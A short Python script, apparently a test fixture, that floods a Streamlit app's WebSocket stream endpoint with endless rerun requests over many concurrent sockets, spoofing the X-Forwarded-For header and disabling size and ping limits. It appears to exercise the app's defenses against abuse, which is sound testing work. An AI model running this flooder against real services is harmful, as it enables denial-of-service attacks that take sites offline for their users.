"""A stranger's program: `python -m tests.club.flooding URL SOCKETS` asks as fast as it can."""

import asyncio
import contextlib
import sys

from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets import Origin
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException

ADDRESS = "203.0.113.66"


async def attack(url, frame):
    """Ask for a page again and again, and read no faster than one must."""
    while True:
        with contextlib.suppress(WebSocketException, OSError, TimeoutError):
            async with connect(
                url.replace("http", "ws", 1) + "/_stcore/stream",
                origin=Origin(url),
                max_size=None,
                ping_interval=None,
                additional_headers={"X-Forwarded-For": ADDRESS},
            ) as socket:
                while True:
                    await socket.send(frame)
        await asyncio.sleep(0.05)


async def attack_all(url, sockets):
    message = BackMsg()
    message.rerun_script.page_name = "guidance"
    tasks = [asyncio.create_task(attack(url, message.SerializeToString())) for _ in range(sockets)]
    await asyncio.sleep(0.5)
    sys.stdout.write("attacks\n")
    sys.stdout.flush()
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    asyncio.run(attack_all(sys.argv[1], int(sys.argv[2])))
